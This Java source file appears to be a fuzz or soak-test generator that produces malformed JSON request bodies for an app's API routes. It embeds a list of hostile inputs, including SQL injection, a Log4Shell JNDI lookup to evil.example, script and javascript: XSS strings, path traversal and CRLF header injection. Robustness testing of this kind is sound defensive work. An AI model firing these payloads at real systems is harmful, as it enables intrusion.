package org.hearth.local.soak;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;

/** Values and bodies that nobody's page would send: some far from what a route takes, most only a little beside it. */
final class HostileBodies {
    static final String ULID = "01ARZ3NDEKTSV4RRFFQ69G5FAV";
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> ODD = List.of("", " ", "a", "null", "0", "-1", "1e999", "true", "[]", "{}", "\u0000", "\ufffd", "\ud83d", "\u202e", "../..", "%00", "%2e%2e%2f",
            "' OR 1=1 --", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "=1+1", "a".repeat(300), "😀".repeat(50), "a".repeat(10_001), "PROFILE", "POST#", "THREAD#" + ULID,
            "__proto__", "9999999999999#" + ULID, "0#0000000000000#" + ULID, "2026-13", "0000-00", "2026-11-31T00:00:00Z", "+292278994-08-17T07:12:55.807Z", "9999-12-31T23:59:59Z",
            "25:61", "javascript:alert(1)", "https://", "http://[::1", "MEMBER#" + ULID, "crisis", "\r\nX-Hearth: 1", "12:00", "2026-11-23", "a,b,,c", "e\u0301\u0301\u0301".repeat(40));

    private final Random random;
    private final Map<String, JsonNode> samples;
    private final List<String> fields;

    private HostileBodies(Random random, Map<String, JsonNode> samples) {
        this.random = random;
        this.samples = samples;
        this.fields = samples.values().stream().flatMap(sample -> names(sample).stream()).distinct().sorted().toList();
    }

    /** Of all fields of a body, those inside of others too. */
    private static List<String> names(JsonNode body) {
        List<String> names = new ArrayList<>();
        body.properties().forEach(field -> {
            names.add(field.getKey());
            names.addAll(names(field.getValue()));
        });
        return names;
    }

    /** @param events the folder with a sample of each route's event */
    static HostileBodies with(Random random, Path events) {
        Map<String, JsonNode> samples = new HashMap<>();
        try (Stream<Path> files = Files.list(events)) {
            for (Path file : files.filter(one -> one.toString().endsWith(".json")).sorted().toList()) {
                JsonNode event = JSON.readTree(file.toFile());
                if (event.path("body").isTextual() && event.path("headers").path("content-type").asText().startsWith("application/json")) {
                    samples.put(event.path("routeKey").asText(), JSON.readTree(event.path("body").asText()));
                }
            }
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return new HostileBodies(random, samples);
    }

    String forRoute(String route) {
        JsonNode sample = samples.get(route);
        if (sample instanceof ObjectNode object && random.nextInt(5) < 3) {
            return beside(object);
        }
        return switch (random.nextInt(12)) {
            case 0 -> odd();
            case 1 -> "[".repeat(1 + random.nextInt(2_000));
            case 2 -> random.nextInt(10) > 0 ? "{\"text\":\"a\"}}" : "{\"text\":\"" + "a".repeat(random.nextInt(200_000)) + "\"}";
            case 3 -> object(2) + object(1);
            case 4 -> "{\"text\":\"a\",\"text\":\"b\"}";
            case 5 -> cut(object(1));
            default -> object(2);
        };
    }

    /** What the route takes, with one or two things that it does not. */
    private String beside(ObjectNode sample) {
        ObjectNode changed = sample.deepCopy();
        int changes = random.nextInt(4) == 0 ? 2 : 1;
        for (int i = 0; i < changes; i++) {
            change(changed);
        }
        String text = changed.toString();
        return random.nextInt(20) == 0 ? cut(text) : text;
    }

    private void change(ObjectNode object) {
        List<String> names = new ArrayList<>();
        object.fieldNames().forEachRemaining(names::add);
        if (names.isEmpty()) {
            object.put(pick(fields), odd());
            return;
        }
        String name = pick(names);
        if (object.get(name) instanceof ObjectNode inner && random.nextInt(3) > 0) {
            change(inner);
            return;
        }
        switch (random.nextInt(8)) {
            case 0 -> object.remove(name);
            case 1 -> object.putNull(name);
            case 2 -> object.put(name, random.nextInt(7) - 3);
            case 3 -> object.put(name, random.nextLong());
            case 4 -> object.putArray(name).add(odd()).add(random.nextInt()).addNull();
            case 5 -> object.putObject(name).put(odd(), odd());
            case 6 -> object.put(pick(fields), odd());
            default -> object.set(name, JsonNodeFactory.instance.textNode(object.get(name).isTextual() && random.nextInt(4) == 0
                    ? object.get(name).asText() + odd() : odd()));
        }
    }

    private String cut(String text) {
        return text.substring(0, random.nextInt(text.length()));
    }

    private String object(int depth) {
        StringBuilder object = new StringBuilder("{");
        int size = random.nextInt(6);
        for (int i = 0; i < size; i++) {
            object.append(i == 0 ? "" : ",").append('"').append(random.nextInt(12) == 0 ? escaped(odd()) : pick(fields)).append("\":").append(value(depth));
        }
        return object.append('}').toString();
    }

    private String value(int depth) {
        return switch (random.nextInt(depth > 0 ? 9 : 7)) {
            case 0 -> Long.toString(random.nextLong());
            case 1 -> Integer.toString(random.nextInt(5) - 2);
            case 2 -> "1e" + random.nextInt(400);
            case 3 -> pick(List.of("true", "false", "null"));
            case 4 -> "\"" + ULID + "\"";
            case 7 -> object(depth - 1);
            case 8 -> "[" + value(depth - 1) + "," + value(depth - 1) + "]";
            default -> "\"" + escaped(odd()) + "\"";
        };
    }

    String odd() {
        return pick(ODD);
    }

    private <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }

    private static String escaped(String text) {
        StringBuilder escaped = new StringBuilder();
        for (char c : text.toCharArray()) {
            escaped.append(c < ' ' || c > '~' || c == '"' || c == '\\' ? String.format("\\u%04x", (int) c) : Character.toString(c));
        }
        return escaped.toString();
    }
}
